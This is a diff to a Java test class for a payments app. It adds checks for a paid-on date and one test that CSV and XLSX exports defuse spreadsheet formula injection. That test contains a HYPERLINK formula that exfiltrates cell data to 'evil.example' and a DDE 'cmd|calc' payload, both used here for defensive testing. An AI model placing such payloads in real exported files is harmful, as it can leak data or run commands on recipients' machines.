@@ -5,12 +5,15 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import static org.coproduce.support.SignedIn.as;
 import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
 import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
+import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
 import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
+import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.redirectedUrl;
 import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;
 
 import java.io.StringReader;
 import java.time.Duration;
 import java.time.Instant;
+import java.time.LocalDate;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Set;
@@ -37,6 +40,7 @@ import org.coproduce.sessions.SessionKind;
 import org.coproduce.sessions.Sessions;
 import org.coproduce.support.CoproduceTest;
 import org.coproduce.support.Fixtures;
+import org.coproduce.web.Dates;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
@@ -54,6 +58,7 @@ class PaymentRunsTest {
     @Autowired PaymentsRepository claims;
     @Autowired PaymentRuns payments;
     @Autowired PaymentRunRepository runs;
+    @Autowired ExpensesRepository expenses;
     @Autowired InProcessMailServer mail;
     @Autowired JdbcClient jdbc;
 
@@ -61,13 +66,14 @@ class PaymentRunsTest {
     CurrentUser priya;
     CurrentUser grace;
     List<Long> partners = new ArrayList<>();
+    LocalDate today = LocalDate.now(Dates.LONDON);
 
     @BeforeEach
     void setUp() {
         northshire = fixtures.organisation("Northshire Partnership");
         priya = fixtures.coordinator(northshire);
         grace = fixtures.member(northshire, "Grace Adeyemi", "Grace", Role.FINANCE);
-        rates.addRate(priya, PaidActivity.ATTENDING, 2_500, 7_500L, 15_000L, 0, java.time.LocalDate.now().minusYears(1));
+        rates.addRate(priya, PaidActivity.ATTENDING, 2_500, 7_500L, 15_000L, 0, LocalDate.now().minusYears(1));
         long project = projects.create(priya, new ProjectDetails("Day services review", "Find out what people want.", null, null,
                 CoKind.CO_DESIGN, CyclePhase.ANALYSE, null, null));
         for (String name : List.of("Jamie", "Aisha", "Ben", "Chloe")) {
@@ -102,12 +108,12 @@ class PaymentRunsTest {
         assertThat(rows).extracting(r -> r.get("payment_type")).containsExactlyInAnyOrder("FEE", "FEE", "VOUCHER");
         long exported = rows.stream().mapToLong(r -> Long.parseLong(r.get("amount_pence"))).sum();
 
-        payments.markPaid(grace, run);
+        payments.markPaid(grace, run, today);
 
         long inLedger = jdbc.sql("select sum(amount_pence) from ledger_entry where run_id = :run").param("run", run).query(Long.class).single();
         assertThat(inLedger).isEqualTo(exported).isEqualTo(3 * 3_750);
         assertThat(mail.latestTo(Fixtures.email(northshire, "jamie")).orElseThrow().body())
-                .contains("We have paid you £37.50 today").contains("for Design workshop");
+                .contains("We paid you £37.50 on " + Dates.date(today)).contains("for Design workshop");
         assertThat(claims.claimsOf(northshire.id(), partners.get(3)).get(0).status()).isEqualTo(ClaimStatus.DRAFT);
     }
 
@@ -117,7 +123,7 @@ class PaymentRunsTest {
         byte[] file = mvc.perform(get("/payments/runs/" + run + ".xlsx").with(as(grace)))
                 .andExpect(status().isOk())
                 .andReturn().getResponse().getContentAsByteArray();
-        payments.markPaid(grace, run);
+        payments.markPaid(grace, run, today);
 
         try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(file))) {
             var sheet = workbook.getSheet("Payments");
@@ -137,12 +143,100 @@ class PaymentRunsTest {
     }
 
     @Test
+    void formulasTypedInAnExpenseOrANameAreDefusedInTheCsvAndAreTextInTheWorkbook() throws Exception {
+        String formula = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Receipt\")";
+        CurrentUser mallory = fixtures.member(northshire, "Mallory Evans", "@SUM(1+1)*cmd|calc", Role.PARTNER);
+        LocalDate spent = today.minusDays(2);
+        mvc.perform(multipart("/your-payments/expenses").with(as(mallory)).with(csrf()).param("kind", "OTHER")
+                        .param("spentDay", String.valueOf(spent.getDayOfMonth())).param("spentMonth", String.valueOf(spent.getMonthValue()))
+                        .param("spentYear", String.valueOf(spent.getYear())).param("amount", "12").param("description", formula))
+                .andExpect(status().is3xxRedirection());
+        long expense = expenses.of(northshire.id(), mallory.personId()).get(0).id();
+        mvc.perform(post("/payments/expenses/" + expense + "/approve").with(as(priya)).with(csrf())).andExpect(status().is3xxRedirection());
+        long run = payments.createRun(grace);
+
+        String csv = mvc.perform(get("/payments/runs/" + run + ".csv").with(as(grace))).andReturn().getResponse().getContentAsString();
+        CSVRecord row = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv)).getRecords()
+                .stream().filter(r -> r.get("payment_type").equals("EXPENSE")).findFirst().orElseThrow();
+        assertThat(row.get("payee_name")).isEqualTo("'@SUM(1+1)*cmd|calc");
+        assertThat(row.get("description")).isEqualTo("'" + formula);
+        assertThat(row.get("amount")).isEqualTo("12.00");
+
+        byte[] file = mvc.perform(get("/payments/runs/" + run + ".xlsx").with(as(grace))).andReturn().getResponse().getContentAsByteArray();
+        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(file))) {
+            var sheet = workbook.getSheet("Payments");
+            var expenseRow = java.util.stream.IntStream.rangeClosed(1, sheet.getLastRowNum()).mapToObj(sheet::getRow)
+                    .filter(r -> "EXPENSE".equals(r.getCell(4).getStringCellValue())).findFirst().orElseThrow();
+            assertThat(expenseRow.getCell(8).getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
+            assertThat(expenseRow.getCell(8).getStringCellValue()).isEqualTo(formula);
+            assertThat(expenseRow.getCell(3).getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
+        }
+    }
+
+    @Test
+    void financeSaysWhichDayARunWasPaidAndThatDayShowsOnThePagesInTheExportsAndInTheStatement() throws Exception {
+        long run = payments.createRun(grace);
+        jdbc.sql("update payment_run set created_at = now() - interval '5 days' where id = :run").param("run", run).update();
+        LocalDate paidOn = today.minusDays(3);
+
+        mvc.perform(markPaid(run, paidOn)).andExpect(redirectedUrl("/payments/runs/" + run));
+
+        assertThat(runs.run(northshire.id(), run).orElseThrow().paidOn()).isEqualTo(paidOn);
+        assertThat(page("/payments/runs/" + run)).contains("Paid on " + Dates.date(paidOn)).contains("fee, paid on " + Dates.date(paidOn));
+        assertThat(page("/payments/runs")).contains("paid on " + Dates.date(paidOn));
+        assertThat(runs.statement(northshire.id(), partners.get(0))).extracting(StatementLine::paidOn).containsExactly(paidOn);
+        assertThat(mail.latestTo(Fixtures.email(northshire, "jamie")).orElseThrow().body())
+                .contains("We paid you £37.50 on " + Dates.date(paidOn) + ".").doesNotContain("today");
+
+        String csv = mvc.perform(get("/payments/runs/" + run + ".csv").with(as(grace))).andReturn().getResponse().getContentAsString();
+        assertThat(CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv)).getRecords())
+                .extracting(r -> r.get("paid_on")).containsOnly(paidOn.toString()).hasSize(3);
+        byte[] file = mvc.perform(get("/payments/runs/" + run + ".xlsx").with(as(grace))).andReturn().getResponse().getContentAsByteArray();
+        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(file))) {
+            var sheet = workbook.getSheet("Payments");
+            assertThat(sheet.getRow(0).getCell(9).getStringCellValue()).isEqualTo("paid_on");
+            assertThat(sheet.getRow(1).getCell(9).getLocalDateTimeCellValue().toLocalDate()).isEqualTo(paidOn);
+        }
+    }
+
+    @Test
+    void aRunNotYetPaidExportsAnEmptyPaidOn() throws Exception {
+        long run = payments.createRun(grace);
+
+        String csv = mvc.perform(get("/payments/runs/" + run + ".csv").with(as(grace))).andReturn().getResponse().getContentAsString();
+
+        assertThat(CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv)).getRecords())
+                .extracting(r -> r.get("paid_on")).containsOnly("");
+    }
+
+    @Test
+    void aDayInTheFutureOrBeforeTheRunWasMadeIsRefusedNextToTheFieldAndTheRunStaysUnpaid() throws Exception {
+        long run = payments.createRun(grace);
+        LocalDate tomorrow = today.plusDays(1);
+
+        String future = mvc.perform(markPaid(run, tomorrow)).andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
+        String before = mvc.perform(markPaid(run, today.minusDays(1))).andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
+        String notADay = mvc.perform(post("/payments/runs/" + run + "/paid").with(as(grace)).with(csrf())
+                .param("paidOnDay", "31").param("paidOnMonth", "2").param("paidOnYear", String.valueOf(today.getYear())))
+                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
+
+        assertThat(future).contains("govuk-error-summary").contains("href=\"#paidOn\"").contains("id=\"paidOn-error\"")
+                .contains("The day it was paid must be today or in the past")
+                .contains("name=\"paidOnYear\" type=\"text\" inputmode=\"numeric\" value=\"" + tomorrow.getYear() + "\"");
+        assertThat(before).contains("The day it was paid must be on or after " + Dates.date(today) + ", the day the payment run was made");
+        assertThat(notADay).contains("The day it was paid must be a real date");
+        assertThat(runs.run(northshire.id(), run).orElseThrow().paid()).isFalse();
+        assertThat(jdbc.sql("select count(*) from ledger_entry where run_id = :run").param("run", run).query(Integer.class).single()).isZero();
+        assertThatThrownBy(() -> payments.markPaid(grace, run, tomorrow)).isInstanceOf(PaymentRuns.Refused.class);
+    }
+
+    @Test
     void markingARunPaidFromManyPlacesAtOncePaysEachClaimExactlyOnce() throws Exception {
         long run = payments.createRun(grace);
 
         List<Object> outcomes = together(20, () -> {
             try {
-                return payments.markPaid(grace, run);
+                return payments.markPaid(grace, run, today);
             } catch (PaymentRuns.Refused refused) {
                 return "refused";
             }
@@ -174,7 +268,7 @@ class PaymentRunsTest {
     @Test
     void aMistakeIsReversedOnceWithAReasonAndTheLedgerCannotBeChanged() throws Exception {
         long run = payments.createRun(grace);
-        payments.markPaid(grace, run);
+        payments.markPaid(grace, run, today);
         long entry = jdbc.sql("select min(id) from ledger_entry where run_id = :run").param("run", run).query(Long.class).single();
 
         mvc.perform(post("/payments/ledger/" + entry + "/reverse").with(as(grace)).with(csrf()))
@@ -220,13 +314,22 @@ class PaymentRunsTest {
                 .andExpect(org.springframework.test.web.servlet.result.MockMvcResultMatchers.content()
                         .string(org.hamcrest.Matchers.containsString("4 claims have waited longer than 3 days to be paid")));
 
-        payments.markPaid(grace, payments.createRun(grace));
+        payments.markPaid(grace, payments.createRun(grace), today);
         mvc.perform(get("/payments/runs").with(as(grace)))
                 .andExpect(org.springframework.test.web.servlet.result.MockMvcResultMatchers.content()
                         .string(org.hamcrest.Matchers.containsString("In the last 90 days, 3 payments: half were paid within 5 days")));
         mvc.perform(get("/home").with(as(grace)))
                 .andExpect(org.springframework.test.web.servlet.result.MockMvcResultMatchers.content()
                         .string(org.hamcrest.Matchers.containsString("1 claim has waited longer than 3 days to be paid")));
+    }
+
+    private org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder markPaid(long run, LocalDate day) {
+        return post("/payments/runs/" + run + "/paid").with(as(grace)).with(csrf()).param("paidOnDay", String.valueOf(day.getDayOfMonth()))
+                .param("paidOnMonth", String.valueOf(day.getMonthValue())).param("paidOnYear", String.valueOf(day.getYear()));
+    }
+
+    private String page(String path) throws Exception {
+        return mvc.perform(get(path).with(as(grace))).andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
     }
 
     private static List<Object> together(int threads, Callable<Object> task) throws Exception {
